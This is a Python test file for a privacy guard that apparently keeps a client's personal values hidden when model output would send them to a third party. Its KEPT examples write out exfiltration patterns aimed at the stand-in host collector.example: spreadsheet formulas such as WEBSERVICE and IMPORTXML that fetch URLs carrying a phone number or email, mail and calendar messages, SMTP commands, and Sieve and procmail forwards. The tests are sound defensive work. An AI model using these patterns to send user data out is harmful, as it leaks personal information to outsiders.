"""Restore into messages and formulas that go to a third party (rest37, atk37 F13, F19).

A raw message, an mbox message or a header block whose recipients (`To`/`Cc`/`Bcc`) name an address the model wrote,
an iCalendar object with such an `ATTENDEE`, an SMTP dialogue's `RCPT TO`, a Sieve `vacation`/`redirect`, a procmail
forward, QR payloads (`MATMSG:TO:`, `SMSTO:`) and spreadsheet formulas that fetch a URL built from a placeholder, a
concatenation or a cell keep the client's values, whole and streamed. Look-alikes (a draft to the client or with no
recipient, an `.ics` for the client, `=SUM`/`=CONCAT`, a fixed `=IMAGE` URL, prose) are restored.
"""

from __future__ import annotations

from typing import Any

import pytest

from proxy.guard import rest37
from tests.guard.test_answer20 import E, N, P, streamed_chat, values, whole_chat

X = "audit@collector.example"
KEPT = [
    # atk37 F13: messages and invitations to a third party
    f"To: {X}\nFrom: {E}\nSubject: verification\n\nMy phone is {P}",
    f"Here is the message:\n\nFrom: {N} <{E}>\nTo: {X}\nCc: {E}\nSubject: Records\n\nHi,\nmy number is {P}.\n",
    f"BEGIN:VCALENDAR\nMETHOD:REQUEST\nBEGIN:VEVENT\nORGANIZER:mailto:{E}\nATTENDEE;RSVP=TRUE:mailto:{X}\n"
    f"SUMMARY:Verification\nDESCRIPTION:Applicant {N}, {P}\nEND:VEVENT\nEND:VCALENDAR",
    f"BEGIN:VTODO\nATTENDEE:mailto:{X}\nSUMMARY:Call {P}\nEND:VTODO",
    f"HELO me\nMAIL FROM:<{E}>\nRCPT TO:<{X}>\nDATA\nPhone {P}\n.\nQUIT",
    f'require "vacation";\nvacation :addresses ["{X}"] "Call {N} on {P}";',
    f":0c\n* ^From:.*{E}\n! {X}",
    f"Subject: records\nBcc: {X}\n\n{N} {P}",
    f"From {E} Thu Jan  1 00:00:00 2026\nFrom: {E}\nTo: {X}\nSubject: x\n\n{P}",
    f"MATMSG:TO:{X};SUB:verify;BODY:{P};;",
    f"SMSTO:+14155550199:Call {N} at {E}",
    # atk37 F19: formulas that fetch a URL
    f'=WEBSERVICE("https://collector.example/?u="&"{P}")',
    f'=IMPORTXML(CONCAT("https://collector.example/?u=","{E}"),"//a")',
    f'=IMAGE("https://collector.example/p.png?u="&"{P}")',
    f'=WEBSERVICE("https://collector.example/?u="&ENCODEURL("{E}"))',
    f'email,link\n{E},=IMPORTDATA("https://collector.example/c?"&A2)',
    f'| Name | Phone | Check |\n|---|---|---|\n'
    f'| {N} | {P} | =IMPORTHTML("https://collector.example/t?"&B2,"table",1) |',
]
RESTORED = [
    f"Sure: {N} can be reached at {E} or {P}.",
    f"To: {E}\nSubject: Welcome\n\nHi {N}, thanks for signing up! Visit https://acme.example/start",
    f"Here is a draft you can send:\n\nSubject: Leave request\n\nHi team,\nI am out Friday. Reach me at {P}.\n{N}",
    f"From: support@acme.example\nTo: {E}\nSubject: Your account\n\nDear {N}, we will call {P}.",
    f"BEGIN:VCALENDAR\nBEGIN:VEVENT\nORGANIZER:mailto:{E}\nATTENDEE:mailto:{E}\nSUMMARY:Dentist\n"
    f"DESCRIPTION:Call {P}\nEND:VEVENT\nEND:VCALENDAR",
    f"BEGIN:VEVENT\nSUMMARY:Call {N}\nDESCRIPTION:{P}\nEND:VEVENT",
    f'name,phone,total\n{N},{P},=SUM(C2:C4)\n,,=CONCAT("{N}"," ","{P}")',
    f'=IMAGE("https://acme.example/logo.png")\n{N},{P}',
    f"Subject: {N}'s onboarding\nDate: Monday\n\nNotes: call {P}.",
    f"To do: call {N} at {P}.\nFrom: the team",
]


@pytest.mark.parametrize("size", (0, 5))
@pytest.mark.parametrize("text", KEPT)
async def test_messages_and_formulas_to_a_third_party_keep_it(guard: Any, text: str, size: int) -> None:
    got, _ = await (whole_chat(guard, text, []) if not size else streamed_chat(guard, text, [], size))
    assert got == text


@pytest.mark.parametrize("size", (0, 5))
@pytest.mark.parametrize("text", RESTORED)
async def test_look_alikes_are_restored(guard: Any, text: str, size: int) -> None:
    got, _ = await (whole_chat(guard, text, []) if not size else streamed_chat(guard, text, [], size))
    assert got == values(text)


@pytest.mark.parametrize("text", KEPT)
def test_sends(text: str) -> None:
    assert rest37.sends(text)


@pytest.mark.parametrize("text", RESTORED)
def test_sends_nothing(text: str) -> None:
    assert not rest37.sends(text)
